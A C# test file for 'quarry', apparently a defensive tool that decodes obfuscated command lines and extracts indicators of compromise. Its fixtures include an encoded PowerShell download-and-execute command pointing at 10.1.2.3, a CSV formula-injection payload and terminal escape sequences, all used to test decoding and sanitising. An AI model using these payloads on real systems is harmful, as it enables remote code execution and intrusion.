using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Quarry.Testing;

namespace Quarry.Cli.Tests;

public sealed class QuarryCommandTests : IDisposable
{
    private const string Encoded = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMQAuADIALgAzAC8AYQAuAHAAcwAxACcAKQA=";

    private readonly Scratch _scratch = new();

    public void Dispose() => _scratch.Dispose();

    [Fact]
    public void Annotate_prints_the_annotated_text_alone()
    {
        var run = CommandRun.Of("decode", "--text", Encoded, "--annotate");

        run.Output.ShouldBe("powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')</decoded>\n");
        run.Error.ShouldBe("");
        run.ExitCode.ShouldBe(0);
    }

    [Fact]
    public void Indicators_of_a_string_come_as_json_lines_in_a_pipe()
    {
        var run = CommandRun.Of("iocs", "--text", "see http://evil.example.com/a and 198.51.100.7");

        run.Lines.Select(l => JsonDocument.Parse(l).RootElement).Select(r => $"{r.GetProperty("IoCType")} {r.GetProperty("Observable")}")
            .ShouldBe(["url http://evil.example.com/a", "dns evil.example.com", "ipv4 198.51.100.7"]);
        run.Error.ShouldBe("");
    }

    [Fact]
    public void Decode_makes_iocs_look_into_the_layers()
    {
        CommandRun.Of("iocs", "--text", Encoded).Lines.ShouldBeEmpty();

        var run = CommandRun.Of("iocs", "--text", Encoded, "--decode");

        run.Lines.Select(l => JsonDocument.Parse(l).RootElement).Select(r => $"{r.GetProperty("Observable")} in {r.GetProperty("Reference")}")
            .ShouldBe(["http://10.1.2.3/a.ps1 in 1", "10.1.2.3 in 1"]);
    }

    [Fact]
    public void At_a_terminal_the_default_is_a_table_of_the_telling_columns()
    {
        var run = CommandRun.AtTerminal("iocs", "--text", "198.51.100.7");

        run.Output.ShouldContain("198.51.100.7");
        run.Output.ShouldContain("│");
        run.Error.ShouldContain("1 row");
        run.Error.ShouldContain("more columns");
    }

    [Theory]
    [InlineData("table")]
    [InlineData("jsonl")]
    [InlineData("json")]
    [InlineData("csv")]
    [InlineData("tsv")]
    [InlineData("md")]
    public void No_control_character_of_a_log_reaches_the_terminal(string format)
    {
        string path = _scratch.Write("hostile.log", "\u001b]0;owned\u0007 198.51.100.7 \u202egnp.exe \u009b31m \u007f\r\n");

        var run = CommandRun.AtTerminal("iocs", path, "--format", format);

        run.ExitCode.ShouldBe(0);
        run.Output.ShouldContain("198.51.100.7");
        run.Output.Where(c => (char.IsControl(c) && c is not ('\n' or '\t')) || c is '\u202e').ShouldBeEmpty();
    }

    [Fact]
    public void A_column_that_is_not_there_names_the_nearest_and_all_there_are()
    {
        string path = _scratch.Write("a.csv", "Time,CommandLine\n1,x\n");

        var run = CommandRun.Of("decode", path, "--column", "commandline");

        run.ExitCode.ShouldBe(1);
        run.Output.ShouldBe("");
        run.Error.ShouldContain("no column 'commandline'");
        run.Error.ShouldContain("Did you mean 'CommandLine'?");
        run.Error.ShouldContain("Time, CommandLine");
    }

    [Fact]
    public void A_file_that_is_not_there_is_an_error_of_one_line()
    {
        var run = CommandRun.Of("iocs", _scratch["absent.csv"]);

        run.ExitCode.ShouldBe(1);
        run.Error.ShouldContain("absent.csv");
        run.Error.Trim().Split('\n').Length.ShouldBe(1);
    }

    [Fact]
    public void A_directory_is_an_error()
    {
        var run = CommandRun.Of("iocs", Path.GetDirectoryName(_scratch["x"])!);

        run.ExitCode.ShouldBe(1);
        run.Error.ShouldContain("directory");
    }

    [Theory]
    [InlineData("iocs")]
    [InlineData("iocs", "a.csv", "--text", "x")]
    [InlineData("iocs", "--text", "x", "--format", "docx")]
    [InlineData("iocs", "--text", "x", "--format", "parquet")]
    [InlineData("iocs", "--text", "x", "--format", "text")]
    [InlineData("iocs", "--text", "x", "-o", "out.txt")]
    [InlineData("iocs", "--text", "x", "-o", "out.docx")]
    [InlineData("iocs", "--text", "x", "--limit", "-1")]
    [InlineData("iocs", "--text", "x", "--limit", "many")]
    [InlineData("iocs", "--text", "x", "--types", "ipv5")]
    [InlineData("iocs", "--text", "x", "--threads", "0")]
    [InlineData("iocs", "--text", "x", "--input-format", "evtx")]
    [InlineData("iocs", "--text", "x", "--no-such-option")]
    [InlineData("decode", "--text", "x", "--max-depth", "-3")]
    [InlineData("decode", "--annotate", "a.csv")]
    [InlineData("decoed", "--text", "x")]
    [InlineData("completion", "tcsh")]
    public void A_wrong_command_line_is_exit_code_2_with_a_message_and_nothing_on_standard_output(params string[] arguments)
    {
        var run = CommandRun.Of(arguments);

        run.ExitCode.ShouldBe(2);
        run.Output.ShouldBe("");
        run.Error.ShouldStartWith("quarry: ");
        run.Error.ShouldNotContain("System.");
        run.Error.ShouldNotContain("   at ");
    }

    [Theory]
    [InlineData("hxxp[:]//evil[.]example[.]com", "--text", "see http://evil.example.com", "--types", "url", "--form", "defanged")]
    [InlineData("http://evil.example.com", "--text", "see hxxp://evil[.]example[.]com", "--types", "url,ipv4", "--form", "Refanged")]
    [InlineData("CASE-12", "--text", "CASE-12 198.51.100.1", "--types", "md5_hash", "--patterns", "case=CASE-[0-9]+")]
    [InlineData("198.51.100.1", "--text", "CASE-12 198.51.100.1", "--types", "md5_hash", "--types", "ipv4")]
    public void An_analysis_has_the_options_of_its_record(string observable, params string[] arguments)
    {
        var run = CommandRun.Of(["iocs", .. arguments]);

        run.Error.ShouldBe("");
        JsonDocument.Parse(run.Lines.ShouldHaveSingleItem()).RootElement.GetProperty("Observable").GetString().ShouldBe(observable);
    }

    [Fact]
    public void A_limit_given_as_a_size_stops_the_decoding_and_says_so()
    {
        var run = CommandRun.Of("decode", "--text", Encoded, "--max-layer-bytes", "10B", "--max-depth", "3", "--time-limit", "5s");

        run.Error.ShouldBe("");
        JsonDocument.Parse(run.Lines[0]).RootElement.GetProperty("stopped_by").GetString().ShouldNotBeNullOrEmpty();
    }

    [Fact]
    public void The_extension_of_the_output_picks_the_format_and_only_the_whole_file_gets_the_name()
    {
        var run = CommandRun.Of("iocs", "--text", "198.51.100.7", "-o", _scratch["out.csv"]);

        run.ExitCode.ShouldBe(0);
        run.Output.ShouldBe("");
        File.ReadAllText(_scratch["out.csv"]).ShouldStartWith("IoCType,Observable,SourceIndex,Input,");
        _scratch.Files.ShouldBe(["out.csv"]);
    }

    [Fact]
    public void A_failed_run_leaves_no_file_under_the_name_that_was_asked_for()
    {
        string path = _scratch.Write("a.csv", "Time,CommandLine\n1,x\n");

        CommandRun.Of("iocs", path, "--column", "absent", "-o", _scratch["out.csv"]).ExitCode.ShouldBe(1);

        _scratch.Files.ShouldBe(["a.csv"]);
    }

    [Fact]
    public void A_parquet_file_comes_back_as_it_went()
    {
        CommandRun.Of("iocs", "--text", "198.51.100.7 http://evil.example.com/a", "-o", _scratch["out.parquet"]).ExitCode.ShouldBe(0);

        var run = CommandRun.Of("iocs", _scratch["out.parquet"], "--column", "Observable");

        // url and dns of the first row, dns of the second, ipv4 of the third.
        run.Lines.Length.ShouldBe(4);
    }

    [Fact]
    public void A_limit_that_stopped_work_says_so()
    {
        var run = CommandRun.Of("iocs", "--text", "198.51.100.1 198.51.100.2 198.51.100.3", "--limit", "2");

        run.Lines.Length.ShouldBe(2);
        run.Error.ShouldContain("stopped at 2 rows");
    }

    [Fact]
    public void What_is_piped_in_is_read_without_being_asked_to()
    {
        byte[] input = Encoding.UTF8.GetBytes("a 198.51.100.1\nb 198.51.100.2\n");

        CommandRun.Piped(input, "iocs").Lines.Length.ShouldBe(2);
        CommandRun.Piped(input, "iocs", "-").Lines.Length.ShouldBe(2);
    }

    [Fact]
    public void Malformed_rows_are_reported_with_file_and_line_and_the_rest_is_read()
    {
        string path = _scratch.Write("a.jsonl", "{\"t\":\"198.51.100.1\"}\nnot json\n{\"t\":\"198.51.100.2\"}\n");

        var run = CommandRun.Of("iocs", path);

        run.ExitCode.ShouldBe(0);
        run.Lines.Length.ShouldBe(2);
        run.Error.ShouldContain("a.jsonl");
        run.Error.ShouldContain("2");
    }

    [Fact]
    public void A_compressed_file_cut_short_gives_the_rows_before_it_and_fails()
    {
        using var whole = new MemoryStream();
        using (var gzip = new GZipStream(whole, CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 5000).Select(i => $"{i} {i * 7919 % 1000003} 198.51.100.{i % 250}\n"))));
        }

        string path = _scratch.Write("cut.log.gz", whole.ToArray()[..(int)(whole.Length / 2)]);

        var run = CommandRun.Of("iocs", path, "--quiet");

        run.ExitCode.ShouldBe(1);
        run.Lines.Length.ShouldBeInRange(1000, 4000);
        run.Error.ShouldContain("cut.log.gz ended early");
    }

    [Fact]
    public void Quiet_is_silent_on_standard_error()
    {
        string path = _scratch.Write("a.jsonl", "{\"t\":\"198.51.100.1\"}\nnot json\n");

        CommandRun.Of("iocs", path, "--quiet").Error.ShouldBe("");
    }

    [Fact]
    public void Csv_is_guarded_against_formulas_unless_told_otherwise()
    {
        string path = _scratch.Write("a.log", "=cmd|' /C calc'!A0 198.51.100.1\n");

        CommandRun.Of("iocs", path, "--format", "csv").Output.ShouldContain("\"'=cmd");
        CommandRun.Of("iocs", path, "--format", "csv", "--no-formula-guard").Output.ShouldContain(",=cmd");
    }

    [Fact]
    public void Text_that_begins_with_an_at_sign_is_text() =>
        CommandRun.Of("iocs", "--text", "@/etc/passwd 198.51.100.1").Lines.Length.ShouldBe(1);

    [Fact]
    public void Search_finds_a_feature_by_word_and_says_why()
    {
        var run = CommandRun.Of("search", "base64");

        JsonElement first = JsonDocument.Parse(run.Lines[0]).RootElement;
        first.GetProperty("verb").GetString().ShouldBe("decode");
        first.GetProperty("found_in").GetString().ShouldNotBeNullOrEmpty();
        CommandRun.Of("search").Lines.Length.ShouldBeGreaterThanOrEqualTo(2);
        CommandRun.Of("search", "qqqqqq").ExitCode.ShouldBe(0);
    }

    [Theory]
    [InlineData("bash")]
    [InlineData("zsh")]
    [InlineData("fish")]
    [InlineData("pwsh")]
    public void There_is_a_completion_script_for_each_shell(string shell) =>
        CommandRun.Of("completion", shell).Output.ShouldContain("[suggest:");

    [Fact]
    public void Completion_suggests_verbs_options_and_choices()
    {
        CommandRun.Of("[suggest:9]", "quarry de").Lines.ShouldContain("decode");
        CommandRun.Of("[suggest:14]", "quarry iocs --").Lines.ShouldContain("--column");
        CommandRun.Of("[suggest:21]", "quarry iocs --format ").Lines.ShouldContain("parquet");
    }

    [Fact]
    public void Help_has_examples_columns_and_exit_codes()
    {
        foreach (string verb in (string[])["decode", "iocs"])
        {
            var run = CommandRun.Of(verb, "--help");

            run.ExitCode.ShouldBe(0);
            run.Output.ShouldContain("Examples:");
            run.Output.ShouldContain($"quarry {verb} ");
            run.Output.ShouldContain("Columns of the output:");
            run.Output.ShouldContain("0 done, 1 failed, 2 used wrongly");
        }
    }

    [Fact]
    public void Without_a_verb_it_shows_its_help()
    {
        var run = CommandRun.Of("--help");

        run.ExitCode.ShouldBe(0);
        run.Output.ShouldContain("quarry demo");
    }

    [Fact]
    public void The_demo_shows_the_planted_download()
    {
        var run = CommandRun.Of("demo");

        run.ExitCode.ShouldBe(0);
        run.Output.ShouldContain("1.1.1");
        run.Output.ShouldContain("http://cdn-assets.example.net/media/wuhelper.txt");
    }

    [Fact]
    public void The_notebooks_two_encoded_commands_are_found_and_no_junk()
    {
        var run = CommandRun.Of("decode", Corpus.PathOf("data/processes_on_host.csv"), "--column", "CommandLine");

        JsonElement[] rows = [.. run.Lines.Select(l => JsonDocument.Parse(l).RootElement)];

        // The third is an update request of Chrome's updater, in base64 without its padding: no junk, and missed by the reference.
        rows.Select(r => r.GetProperty("md5").GetString()).ShouldBe(
            ["65716544c3db642171b7597cd3deca2b", "65716544c3db642171b7597cd3deca2b", "d2fcc5c1f928ccb4b9b01fbd1387faf7"]);
    }

    [Fact]
    public void The_notebooks_indicators_are_found_less_those_that_are_none()
    {
        var run = CommandRun.Of("iocs", Corpus.PathOf("data/processes_on_host.csv"), "--column", "CommandLine");

        run.Lines.Select(l => JsonDocument.Parse(l).RootElement.GetProperty("IoCType").GetString()!).GroupBy(t => t).Select(g => $"{g.Key} {g.Count()}").Order(StringComparer.Ordinal)
            .ShouldBe(["dns 105", "email 396", "ipv4 336", "url 5"]);
    }

    [Fact]
    public void The_output_does_not_depend_on_the_number_of_threads()
    {
        string path = Corpus.PathOf("data/processes_on_host.csv");

        CommandRun.Of("iocs", path, "--threads", "1").OutputBytes.ShouldBe(CommandRun.Of("iocs", path, "--threads", "7").OutputBytes);
    }
}
